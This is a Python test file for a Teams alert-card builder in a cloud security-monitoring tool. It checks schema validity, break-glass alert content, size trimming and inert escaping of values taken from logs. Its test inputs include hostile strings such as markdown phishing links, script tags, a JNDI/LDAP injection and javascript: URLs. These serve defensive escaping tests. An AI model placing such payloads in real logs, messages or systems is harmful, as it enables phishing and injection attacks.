"""Teams cards: valid for Teams, complete for on-call, inert against hostile log values, small.

Every message is checked with the local Teams sink's validator, which applies what Teams checks
(envelope, Adaptive Card 1.5 schema, no Action.Submit, 28 KB).

The golden file pins the whole card for one fixed alert. After an intended layout change:

    UPDATE_GOLDEN=1 .venv/bin/pytest tests/unit/test_cards.py -k golden

then review the diff of tests/unit/golden/card_break_glass.json before committing it.
"""

from __future__ import annotations

import json
import os
import random
import re
import unicodedata
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from devstack.teams_sink import validate_message
from monitors import cards
from monitors.cards import MAX_MESSAGE_BYTES, CardLinks, build_message, escape_text, message_size
from monitors.detections import break_glass_use, user_arm_write
from monitors.detections.base import Context
from monitors.model import Alert, EventLine, Finding, Principal, Severity
from monitors.waivers import Waiver

GOLDEN = Path(__file__).parent / "golden" / "card_break_glass.json"
T0 = datetime(2026, 11, 20, 3, 12, tzinfo=UTC)
BG_ID = "7f6d3c2a-5b4e-4c1d-9a8b-0e1f2a3b4c5d"
BG_UPN = "bg-admin1@contoso.onmicrosoft.com"
ADELE = "9b117c67-170e-4aed-9702-658b3fddc889"
LINKS = CardLinks(history_url="https://monitor.example/api/alerts/a-1", portal_url="https://portal.azure.com")
EVIL_LINK = "[Reset your MFA](https://evil.example/reset)"

# The detections evolve; the golden card pins its own copy of what it shows from one.
BREAK_GLASS = replace(
    break_glass_use.DETECTION,
    id="break-glass-use",
    title="Break-glass account used",
    severity=Severity.CRITICAL,
    runbook=(
        "Call the account's owners now and confirm who is using it and why.",
        "Not expected: revoke the account's sessions and reset its credentials (FIDO2 key or certificate).",
        "Record the outcome on the alert.",
    ),
)


# --------------------------------------------------------------------------- helpers


def _valid(message: dict[str, Any]) -> dict[str, Any]:
    """Assert Teams would post the message; return its card."""
    assert validate_message(json.dumps(message).encode()) == []
    return message["attachments"][0]["content"]


def _texts(card: dict[str, Any]) -> list[str]:
    """Every string Teams renders as markdown: TextBlock text, fact titles and values."""
    found: list[str] = []
    for element in card["body"]:
        if element["type"] == "TextBlock":
            found.append(element["text"])
        elif element["type"] == "FactSet":
            found += [text for fact in element["facts"] for text in (fact["title"], fact["value"])]
    return found


OUR_TIME = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC")  # cards._when, ours, not escaped


def _event_lines(card: dict[str, Any]) -> list[dict[str, Any]]:
    """The TextBlocks that show one event each (they start with its time)."""
    pattern = re.compile(r"(⚠ )?\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC")
    return [e for e in card["body"] if e["type"] == "TextBlock" and pattern.match(e["text"])]


def _facts(card: dict[str, Any]) -> dict[str, str]:
    (fact_set,) = [e for e in card["body"] if e["type"] == "FactSet"]
    return {fact["title"]: fact["value"] for fact in fact_set["facts"]}


def _joined(expected: str) -> str:
    """An expected escape with "^" standing for the invisible joiner that breaks autolinking."""
    return expected.replace("^", cards.UNLINK)


def _unescape(text: str) -> str:
    """What a CommonMark renderer shows for our escapes, less the invisible joiners."""
    return re.sub(r"\\(.)", r"\1", text).replace(cards.UNLINK, "")


def _linkable(rendered: str) -> list[str]:
    """Host, address and scheme punctuation followed by text, not by a joiner, once rendered."""
    return re.findall(r"[.@:/\\\u3002\uff0e\uff61\uff20\uff1a\uff0f](?![\u2060 ]|$)", rendered)


def _unescaped_specials(text: str) -> list[str]:
    """Markdown/templating characters in `text` that no backslash escapes."""
    found, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2  # an escape pair
            continue
        if text[i] in "\\`*_[]()!<>&~|#{}":
            found.append(text[i])
        i += 1
    return found


def _assert_inert(escaped: str) -> None:
    assert _unescaped_specials(escaped) == []
    for syntax in ("](", "${", "{{", "://"):
        assert syntax not in escaped
    assert not re.match(r"\d+\.( |$)", escaped)
    assert escaped[:1] not in ("-", "+", " ")
    assert _linkable(re.sub(r"\\(.)", r"\1", escaped)) == []
    # The joiners are the only format characters, and each one is ours, after link punctuation.
    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs") for ch in escaped.replace(cards.UNLINK, ""))
    assert not re.search(r"(?<![.@:/\\\u3002\uff0e\uff61\uff20\uff1a\uff0f])\u2060", escaped)


def _event(number: int, *, flagged: bool = False, source: str = "SigninLogs", **fields: str) -> EventLine:
    return EventLine(
        event_id=f"ev-{number}",
        time=T0 + timedelta(minutes=number),
        source=source,
        fields=tuple(fields.items()) or (("What", "sign-in"), ("Result", "success")),
        flagged=flagged,
    )


def _break_glass_finding(events: tuple[EventLine, ...], event_ids: tuple[str, ...] | None = None) -> Finding:
    event_ids = event_ids if event_ids is not None else tuple(e.event_id for e in events)
    return Finding(
        detection="break-glass-use",
        severity=Severity.CRITICAL,
        principal=Principal(user_id=BG_ID, user_principal_name=BG_UPN),
        headline=f"Break-glass account used: {BG_UPN}",
        facts=(("Account", BG_UPN), ("Object id", BG_ID), ("Events", f"{len(event_ids)} (sign-in)")),
        events=events,
        event_ids=event_ids,
        first_time=T0,
        last_time=T0 + timedelta(minutes=len(events)),
    )


def _alert(finding: Finding, *, part: int = 1, parts: int = 1) -> Alert:
    return Alert(
        alert_id="a-1", finding=finding, created_at=T0 + timedelta(minutes=5), part=part, parts=parts
    )


def _golden_alert() -> Alert:
    events = (
        _event(0, What="sign-in", Result="success", App="Azure Portal", IP="203.0.113.7",
               Location="Oslo, NO", Method="FIDO2 security key"),
        _event(1, flagged=True, source="AADNonInteractiveUserSignInLogs", What="non-interactive sign-in",
               Result=f"failure 50126: {EVIL_LINK}", App="Azure CLI", IP="198.51.100.23",
               Location="Lagos", Method="Password (weak)"),
        _event(2, source="AzureActivity", What="ARM operation", Result="Success",
               Operation="Microsoft.Authorization/roleAssignments/write", App="Azure portal",
               IP="203.0.113.7", Location="unknown"),
    )  # fmt: skip
    return _alert(_break_glass_finding(events, event_ids=(*[e.event_id for e in events], "ev-3", "ev-4")))


# --------------------------------------------------------------------------- escaping


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("[x](https://evil.example)", _joined(r"\[x\]\(https:^/^/^evil.^example\)")),
        ("**bold**", r"\*\*bold\*\*"),
        ("_italic_", r"\_italic\_"),
        ("<script>alert(1)</script>", _joined(r"\<script\>alert\(1\)\</^script\>")),
        ("${jndi}", r"$\{jndi\}"),
        ("${jndi:ldap://x.example/a}", _joined(r"$\{jndi:^ldap:^/^/^x.^example/^a\}")),
        ("${$root.secret}", _joined(r"$\{$root.^secret\}")),
        ("{{DATE(2017-02-14T06:00:00Z, SHORT)}}", _joined(r"\{\{DATE\(2017-02-14T06:^00:^00Z, SHORT\)\}\}")),
        ("1. list", r"1\. list"),
        ("2026. was a year", r"2026\. was a year"),
        ("1.", r"1\."),
        ("1.5 GB", _joined("1.^5 GB")),
        ("- item", r"\- item"),
        ("+ item", r"\+ item"),
        ("# heading", r"\# heading"),
        ("> quote", r"\> quote"),
        ("`code`", r"\`code\`"),
        ("~~gone~~ | table", r"\~\~gone\~\~ \| table"),
        ("![img](x)", r"\!\[img\]\(x\)"),
        ("&#91;x&#93;", r"\&\#91;x\&\#93;"),  # entity references cannot smuggle brackets
        (r"C:\temp\new", _joined(r"C:^\\^temp\\^new")),
        ("a\\", "a\\\\"),
        ("line one\nline two\r\n\tend", "line one line two end"),
        ("    indented code", "indented code"),
        ("gnp.exe\u202eevil", _joined("gnp.^exeevil")),  # right-to-left override
        ("ad\u200bmin\u200d\ufeff", "admin"),  # zero-width space / joiner, BOM
        ("bell\x07 nul\x00", "bell nul"),
        # dashes mid-value stay (GUIDs, dates, hosts)
        ("a-b_c@contoso.com", _joined(r"a-b\_c@^contoso.^com")),
        (BG_ID, BG_ID),
        ("203.0.113.7", _joined("203.^0.^113.^7")),
        # Bare hosts, addresses and schemes that linkifiers find without any markdown.
        ("www.evil.example/login", _joined("www.^evil.^example/^login")),
        ("help@evil.example", _joined("help@^evil.^example")),
        (r"https:\/\/evil.example", _joined(r"https:^\\^/^\\^/^evil.^example")),
        (r"https:\\evil.example", _joined(r"https:^\\^\\^evil.^example")),
        (
            "evil\u3002example\uff0ecom\uff61x\uff20y\uff1az\uff0fw",
            _joined("evil\u3002^example\uff0e^com\uff61^x\uff20^y\uff1a^z\uff0f^w"),
        ),
        ("Zürich, 東京 🙂", "Zürich, 東京 🙂"),
        ("", ""),
    ],
)
def test_escape_text_exact(raw: str, expected: str) -> None:
    assert escape_text(raw) == expected


def test_escape_text_bounds_long_values_with_an_ellipsis() -> None:
    assert escape_text("a" * 10_000) == "a" * 299 + "…"
    assert escape_text("a" * 300) == "a" * 300
    assert escape_text("[" * 10_000, limit=10) == "\\[" * 9 + "…"  # bounded before escaping
    assert escape_text("\u200b" * 10_000 + "tail") == "…"  # only the start of a huge value is read
    assert escape_text("word " * 100, limit=12) == "word word w…"


HOSTILE = [
    EVIL_LINK,
    "[x](https://evil.example)",
    "[x]\n(https://evil.example)",
    "[x] (https://evil.example)",
    "<https://evil.example>",
    "https://evil.example/login",
    "**bold** __strong__ *em*",
    "<script>alert(1)</script>",
    "<at>Everyone</at>",
    "${jndi:ldap://evil.example/a}",
    "${$root.secret}",
    "{{TIME(2017-02-14T06:00:00Z)}}",
    "1. list",
    "1) list",
    "- item",
    "* item",
    "# heading",
    "---",
    "***",
    "```\ncode\n```",
    "\\[x\\](https://evil.example)",
    "\\\\[x](https://evil.example)",
    "&lt;b&gt; &#x5B;x&#x5D;(https://evil.example)",
    "\u202e[x](https://evil.example)",
    "[x\u200b](https://evil.example)",
    "\n\n- [x](https://evil.example)",
    "x" * 10_000,
]


@pytest.mark.parametrize("raw", HOSTILE)
def test_hostile_values_become_inert_text(raw: str) -> None:
    escaped = escape_text(raw)
    _assert_inert(escaped)
    # ...and a renderer that honours the escapes shows the original characters, minus controls.
    visible = " ".join("".join(c for c in raw if unicodedata.category(c) != "Cf").split())
    if len(visible) > cards.MAX_VALUE_CHARS:
        visible = visible[: cards.MAX_VALUE_CHARS - 1] + "…"
    assert _unescape(escaped) == visible


def test_escape_text_fuzz() -> None:
    """Random mixes of every special character stay inert and round-trip to the visible text."""
    rng = random.Random(20261120)  # noqa: S311 -- a reproducible fuzz, not a secret
    alphabet = "\\`*_[]()!<>&~|#{}$:/.-+=1 aZ\n\t\u202e\u200b\x00é🙂"
    for _ in range(2_000):
        raw = "".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 40)))
        escaped = escape_text(raw)
        _assert_inert(escaped)
        visible = "".join(" " if c in "\n\t" else c for c in raw if c not in "\u202e\u200b\x00")
        assert _unescape(escaped) == " ".join(visible.split())


# --------------------------------------------------------------------------- content


def test_break_glass_card_has_header_facts_events_runbook_and_links() -> None:
    card = _valid(build_message(_golden_alert(), BREAK_GLASS, LINKS))
    texts = _texts(card)

    severity, headline, meta = card["body"][:3]
    assert severity["text"] == "CRITICAL · Break-glass account used"
    assert severity["color"] == "Attention"
    assert headline["text"] == _joined("Break-glass account used: bg-admin1@^contoso.^onmicrosoft.^com")
    assert meta["text"] == "break-glass-use · alert a-1 · 2026-11-20 03:17:00 UTC"

    assert _facts(card) == {
        "Account": _joined("bg-admin1@^contoso.^onmicrosoft.^com"),
        "Object id": BG_ID,
        "Events": r"5 \(sign-in\)",
    }

    events = _event_lines(card)
    assert [e["text"][:25] for e in events] == [
        "2026-11-20 03:12:00 UTC ·",
        "⚠ 2026-11-20 03:13:00 UTC",
        "2026-11-20 03:14:00 UTC ·",
    ]  # oldest first, newest last
    assert events[1]["color"] == "Attention"
    assert "color" not in events[0]
    assert "Location: Oslo, NO" in events[0]["text"]
    link = _joined(r"\[Reset your MFA\]\(https:^/^/^evil.^example/^reset\)")
    assert f"Result: failure 50126: {link}" in events[1]["text"]
    assert "and 2 more events (see the alert history)" in texts  # event_ids lists 5, events 3

    runbook = texts[texts.index("What to do") + 1 :]
    assert runbook == [
        "**1.** Call the account's owners now and confirm who is using it and why.",
        r"**2.** Not expected: revoke the account's sessions and reset its credentials \(FIDO2 key or "
        r"certificate\).",
        "**3.** Record the outcome on the alert.",
    ]


def test_actions_are_open_url_only_history_first_then_the_log_the_events_came_from() -> None:
    card = _valid(build_message(_golden_alert(), BREAK_GLASS, LINKS))
    assert card["actions"] == [
        {"type": "Action.OpenUrl", "title": "Open alert history", "url": LINKS.history_url},
        {
            "type": "Action.OpenUrl",
            "title": "Entra sign-in logs",
            "url": "https://portal.azure.com/#view/Microsoft_AAD_IAM/SignInEventsV3Blade",
        },
        {
            "type": "Action.OpenUrl",
            "title": "Activity Log",
            "url": "https://portal.azure.com/#view/Microsoft_Azure_Monitoring/AzureMonitoringBrowseBlade/~/activityLog",
        },
    ]
    assert "Action.Submit" not in json.dumps(card)
    assert "Action.Execute" not in json.dumps(card)


def test_directory_changes_link_the_entra_audit_logs_first() -> None:
    """break-glass-account-changed: its events are AuditLogs rows; then the sign-ins, to see the
    account used after the change."""
    changed = replace(
        _break_glass_finding((_event(1, source="AuditLogs", What="password"),)),
        detection="break-glass-account-changed",
    )
    card = _valid(build_message(_alert(changed), BREAK_GLASS, LINKS))
    assert [(a["title"], a["url"]) for a in card["actions"][1:]] == [
        (
            "Entra audit logs",
            "https://portal.azure.com/#view/Microsoft_AAD_IAM/ActiveDirectoryMenuBlade/~/Audit",
        ),
        ("Entra sign-in logs", "https://portal.azure.com/#view/Microsoft_AAD_IAM/SignInEventsV3Blade"),
    ]


def test_without_a_history_url_there_is_no_history_button() -> None:
    links = CardLinks(history_url=None, portal_url="https://portal.azure.us/")  # US Gov, trailing slash
    card = _valid(build_message(_golden_alert(), BREAK_GLASS, links))
    assert [a["title"] for a in card["actions"]] == ["Entra sign-in logs", "Activity Log"]
    assert all(a["url"].startswith("https://portal.azure.us/#view/") for a in card["actions"])


@pytest.mark.parametrize(
    ("portal_url", "history_url"),
    [("http://portal.azure.com", None), ("javascript:alert(1)", None), (cards.AZURE_PORTAL, "javascript:x")],
)
def test_card_links_refuse_urls_that_are_not_web_links(portal_url: str, history_url: str | None) -> None:
    with pytest.raises(ValueError, match="URL"):
        CardLinks(history_url=history_url, portal_url=portal_url)


@pytest.mark.parametrize(
    ("severity", "color"),
    [
        (Severity.CRITICAL, "Attention"),
        (Severity.HIGH, "Attention"),
        (Severity.MEDIUM, "Warning"),
        (Severity.LOW, "Default"),
    ],
)
def test_severity_sets_the_header_color(severity: Severity, color: str) -> None:
    finding = replace(_break_glass_finding((_event(0),)), severity=severity)
    header = _valid(build_message(_alert(finding), BREAK_GLASS, LINKS))["body"][0]
    assert header["text"].startswith(severity.value.upper() + " · ")
    assert header["color"] == color


def test_parts_are_labelled_only_when_an_alert_is_split() -> None:
    finding = _break_glass_finding((_event(0),))
    split = _valid(build_message(_alert(finding, part=2, parts=3), BREAK_GLASS, LINKS))
    whole = _valid(build_message(_alert(finding), BREAK_GLASS, LINKS))
    assert split["body"][0]["text"] == "CRITICAL · Break-glass account used · part 2 of 3"
    assert "part" not in whole["body"][0]["text"]


def test_user_arm_write_card_from_a_parsed_query_row() -> None:
    """The real detection end to end: a row as the KQL returns it -> parse -> evaluate -> card."""
    row = {
        "UserPrincipalName": "AdeleV@contoso.com",
        "UserId": ADELE,
        "EventIds": json.dumps(["e1", "e2"]),
        "Rows": 2,
        "Operations": 1,
        "OperationNames": json.dumps(["MICROSOFT.WEB/SITES/DELETE"]),
        "Succeeded": 1,
        "Failed": 0,
        "WithMfa": 0,
        "WithoutMfa": 2,
        "ClientAppIds": json.dumps(["c44b4083-3bb0-49c1-b47d-974e53cbdf3c"]),
        "IpAddresses": json.dumps(["37.142.150.162"]),
        "Subscriptions": json.dumps(["8f153238-e602-427e-a7c0-3043fbe50918"]),
        "FirstTime": "2026-11-20T10:00:00Z",
        "LastTime": "2026-11-20T10:00:05Z",
        "Actions": 0,  # no actions beside the writes: the left outer join gives no names
        "ActionNames": None,
    }
    detection = user_arm_write.DETECTION
    (finding,) = detection.evaluate([detection.parse(row)], Context())
    card = _valid(build_message(_alert(finding), detection, LINKS))

    assert card["body"][0] == {
        "type": "TextBlock",
        "text": f"HIGH · {escape_text(detection.title)}",
        "wrap": True,
        "weight": "Bolder",
        "color": "Attention",
    }
    assert card["body"][1]["text"] == _joined("New user account doing ARM writes: adelev@^contoso.^com")
    facts = _facts(card)
    assert facts["Object id"] == ADELE
    assert facts["User"] == _joined("adelev@^contoso.^com")
    assert facts["IP addresses"] == _joined("37.^142.^150.^162")
    assert len(facts) == len(finding.facts)
    texts = _texts(card)
    assert not any(t.startswith("Events") for t in texts)  # the finding lists no events
    assert len([t for t in texts if t.startswith("**")]) == len(detection.runbook)
    assert [a["title"] for a in card["actions"]] == [
        "Open alert history",
        "Activity Log",
        "Entra sign-in logs",
    ]


def test_break_glass_card_from_parsed_query_rows() -> None:
    def row(event_id: str, minute: int, result: str, method: str) -> dict[str, Any]:
        return {
            "Source": "SigninLogs",
            "EventId": event_id,
            "TimeGenerated": f"2026-11-20T03:{minute:02d}:00Z",
            "UserId": break_glass_use.BG_ID,
            "UserPrincipalName": break_glass_use.BG_UPN,
            "App": "Azure Portal",
            "IPAddress": "203.0.113.7",
            "Location": "Oslo, NO",
            "ResultType": result,
            "ResultDescription": "Invalid username or password",
            "AuthenticationDetails": json.dumps([{"authenticationMethod": method, "succeeded": True}]),
        }

    detection = break_glass_use.DETECTION
    rows = [row("s2", 14, "50126", "Password"), row("s1", 12, "0", "FIDO2 security key")]
    context = Context(break_glass=break_glass_use.ACCOUNTS)
    (finding,) = detection.evaluate([detection.parse(r) for r in rows], context)
    card = _valid(build_message(_alert(finding), detection, LINKS))

    events = [e["text"] for e in _event_lines(card)]
    assert len(events) == 2
    assert events[0].startswith("2026-11-20 03:12:00 UTC · ")
    assert "FIDO2" in events[0]
    assert events[1].startswith("⚠ 2026-11-20 03:14:00 UTC · ")
    assert "Password \\(weak\\)" in events[1]
    assert card["body"][0]["color"] == "Attention"
    assert card["actions"][1]["title"] == "Entra sign-in logs"


def test_mfa_blocked_automation_card_names_each_tool_once_and_reads_the_policy_error() -> None:
    """A token refusal (sign-in log: app name) and a rejected write (Activity Log: app id only) from
    the same CLI are one tool; the write's status is the ARM error, not its JSON."""
    from devstack.tenant import _policy_denied
    from monitors.detections import mfa_blocked_automation as blocked

    base = {"UserId": blocked.SVC_ID, "UserPrincipalName": blocked.SVC_UPN, "AppId": blocked.AZURE_CLI,
            "IPAddress": "20.62.118.40", "TimeGenerated": "2026-11-20T02:00:41Z"}  # fmt: skip
    rows = [
        {**base, "Source": "AADNonInteractiveUserSignInLogs", "EventId": "n1", "App": "Microsoft Azure CLI",
         "Result": "50074"},
        {**base, "Source": "AzureActivity", "EventId": "a1", "App": "", "Result": "Failure",
         "Operation": "Microsoft.Storage/storageAccounts/write",
         "Detail": f"Forbidden {blocked.DENIED_BY_MFA_POLICY}"},
    ]  # fmt: skip
    detection = blocked.DETECTION
    (finding,) = detection.evaluate([detection.parse(r) for r in rows], Context())
    card = _valid(build_message(_alert(finding), detection, LINKS))
    assert _facts(card)["Tools"] == "Azure CLI \\(also Terraform, Bicep, scripts\\)"
    rejected = next(e["text"] for e in _event_lines(card) if "ARM write rejected" in e["text"])
    assert "Status: Forbidden: RequestDisallowedByPolicy: Resource 'stwebprod01' was disallowed" in rejected
    assert '"error"' not in rejected
    # the generator's longer policy message (over 300 characters) parses too
    long_row = {**rows[1], "Detail": "Forbidden " + _policy_denied("st" + "x" * 20)}
    status = dict(blocked._line(detection.parse(long_row)).fields)["Status"]
    assert status.startswith("Forbidden: RequestDisallowedByPolicy: Resource 'stxxxx")


def test_hostile_values_everywhere_render_inert() -> None:
    evil = f"{EVIL_LINK} **urgent** ${{jndi:ldap://x}} <at>all</at>\u202e"
    finding = Finding(
        detection="break-glass-use",
        severity=Severity.CRITICAL,
        principal=Principal(user_id=None, user_principal_name=evil),
        headline=f"Break-glass account used: {evil}",
        facts=((f"1. {evil}", evil), ("- " + evil, "# " + evil)),
        events=(_event(0, flagged=True, **{evil: evil, "App": evil}),),
        event_ids=("ev-0",),
        first_time=T0,
        last_time=T0,
    )
    card = _valid(build_message(_alert(finding), BREAK_GLASS, LINKS))
    texts = _texts(card)
    for text in texts:
        for syntax in ("](", "${", "{{", "://", "<at>", "**urgent", "\u202e"):
            assert syntax not in text
    from_logs = [text for text in texts if "evil" in text]
    assert len(from_logs) == 6  # headline, 2 fact titles, 2 fact values, the event
    for text in from_logs:
        assert _unescaped_specials(text) == []
    assert "](http" not in json.dumps(card)


# --------------------------------------------------------------------------- size


def test_ten_thousand_events_of_a_kilobyte_fit_and_say_how_many_more() -> None:
    big = "é" * 512 + "x" * 512  # non-ASCII costs 6 bytes each as posted (\u00e9)
    events = tuple(
        _event(i, flagged=i % 3 == 0, What="sign-in", Result=big, App=big, Location=big)
        for i in range(10_000)
    )
    message = build_message(_alert(_break_glass_finding(events)), BREAK_GLASS, LINKS)
    card = _valid(message)

    size = message_size(message)
    line = max(message_size(e) for e in _event_lines(card))
    assert MAX_MESSAGE_BYTES - line < size <= MAX_MESSAGE_BYTES  # trimmed, but not by more than one event
    texts = _texts(card)
    shown = len(_event_lines(card))
    assert shown >= 1
    assert f"and {10_000 - shown:,} more events (see the alert history)" in texts
    assert "Events (10,000, oldest first)" in texts
    assert texts[-4] == "What to do"
    assert texts[-1].startswith("**3.**")
    assert _unescape(_facts(card)["Account"]) == BG_UPN


def test_huge_facts_are_shortened_after_events_are_gone() -> None:
    huge = "𝕏" * 10_000  # astral characters: 12 bytes each as posted (\ud835\udd4f)
    finding = replace(
        _break_glass_finding(tuple(_event(i) for i in range(50))),
        facts=tuple((f"Fact {n}", huge) for n in range(12)),
    )
    message = build_message(_alert(finding), BREAK_GLASS, LINKS)
    card = _valid(message)
    assert message_size(message) <= MAX_MESSAGE_BYTES
    values = _facts(card).values()
    assert len(values) == 12
    assert all(len(v) < cards.MAX_VALUE_CHARS and v.endswith("…") for v in values)


def test_a_card_that_cannot_fit_falls_back_to_a_pointer_to_the_history() -> None:
    finding = replace(
        _break_glass_finding((_event(0),)), facts=tuple((f"Fact {n}", "v" * 300) for n in range(2_000))
    )
    message = build_message(_alert(finding), BREAK_GLASS, LINKS)
    card = _valid(message)
    assert message_size(message) <= MAX_MESSAGE_BYTES
    assert "open the alert history" in card["body"][-1]["text"]
    assert card["actions"][0]["title"] == "Open alert history"


def test_max_bytes_is_respected_below_the_teams_limit() -> None:
    events = tuple(_event(i) for i in range(500))
    message = build_message(_alert(_break_glass_finding(events)), BREAK_GLASS, LINKS, max_bytes=8_000)
    _valid(message)
    assert 7_000 < message_size(message) <= 8_000


def test_message_size_is_the_posted_json_and_bounds_the_compact_forms() -> None:
    message = build_message(_golden_alert(), BREAK_GLASS, LINKS)
    posted = json.dumps(message).encode()  # what adapters/teams.py sends
    assert message_size(message) == len(posted)
    compact = json.dumps(message, separators=(",", ":"), ensure_ascii=False).encode()
    assert message_size(message) >= len(compact)


# --------------------------------------------------------------------------- determinism


def test_same_alert_same_json() -> None:
    first = json.dumps(build_message(_golden_alert(), BREAK_GLASS, LINKS))
    second = json.dumps(build_message(_golden_alert(), BREAK_GLASS, LINKS))
    assert first == second


def test_golden_break_glass_card() -> None:
    message = build_message(_golden_alert(), BREAK_GLASS, LINKS)
    _valid(message)
    if os.environ.get("UPDATE_GOLDEN"):
        GOLDEN.parent.mkdir(exist_ok=True)
        GOLDEN.write_text(json.dumps(message, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    assert message == json.loads(GOLDEN.read_text(encoding="utf-8"))


# --------------------------------------------------------------------------- waiver reminders


def _waiver(**changes: Any) -> Waiver:
    fields: dict[str, Any] = {
        "detection": "user-arm-write",
        "principal": "svc-deploy@contoso.com",
        "owner": "Platform team",
        "reason": "Nightly Terraform job; moves to a managed identity in Q1",
        "approver": "CISO office",
        "created_by": "Sam",
        "created_at": T0,
        "expires_at": T0 + timedelta(days=90),
    }
    return Waiver(**{**fields, **changes})


def test_waiver_reminder_names_the_waiver_its_end_and_what_to_do() -> None:
    card = _valid(cards.build_waiver_reminder(_waiver(), LINKS))
    title, headline, note = card["body"][:3]
    assert title["text"] == "WAIVER ENDING · user-arm-write"
    assert title["color"] == "Warning"
    assert headline["text"] == _joined("The waiver for svc-deploy@^contoso.^com ends 2027-02-18 03:12:00 UTC")
    assert note["text"] == "After that, this account's next user-arm-write finding alerts again."
    assert _facts(card) == {
        "Principal": _joined("svc-deploy@^contoso.^com"),
        "Detection": "user-arm-write",
        "Owner": "Platform team",
        "Approved by": "CISO office",
        "Reason": "Nightly Terraform job; moves to a managed identity in Q1",
        "Recorded": _joined("by Sam, 2026-11-20 03:^12:^00 UTC"),
        "Ends": _joined("2027-02-18 03:^12:^00 UTC"),
    }
    texts = _texts(card)
    assert texts[texts.index("What to do") + 1].startswith("**1.** Still needed?")
    assert card["actions"] == [
        {"type": "Action.OpenUrl", "title": "Open alert history", "url": LINKS.history_url},
        {
            "type": "Action.OpenUrl",
            "title": "Activity Log",
            "url": "https://portal.azure.com/#view/Microsoft_Azure_Monitoring/AzureMonitoringBrowseBlade/~/activityLog",
        },
    ]


def test_waiver_reminder_without_history_url_links_the_portal_only() -> None:
    card = _valid(cards.build_waiver_reminder(_waiver(), CardLinks(history_url=None)))
    assert [a["title"] for a in card["actions"]] == ["Activity Log"]


def test_waiver_reminder_values_render_inert() -> None:
    hostile = _waiver(owner=EVIL_LINK, reason=f"{EVIL_LINK} ${{x}} <b>bold</b> " * 20, approver="# heading")
    message = cards.build_waiver_reminder(hostile, LINKS)
    card = _valid(message)
    for text in _texts(card):
        if not text.startswith("**"):  # the numbered steps are our own markup around escaped text
            _assert_inert(OUR_TIME.sub("", text))  # our own timestamps are not escaped
    assert "evil.example" not in json.dumps(card["actions"])
    assert message_size(message) < 8_000
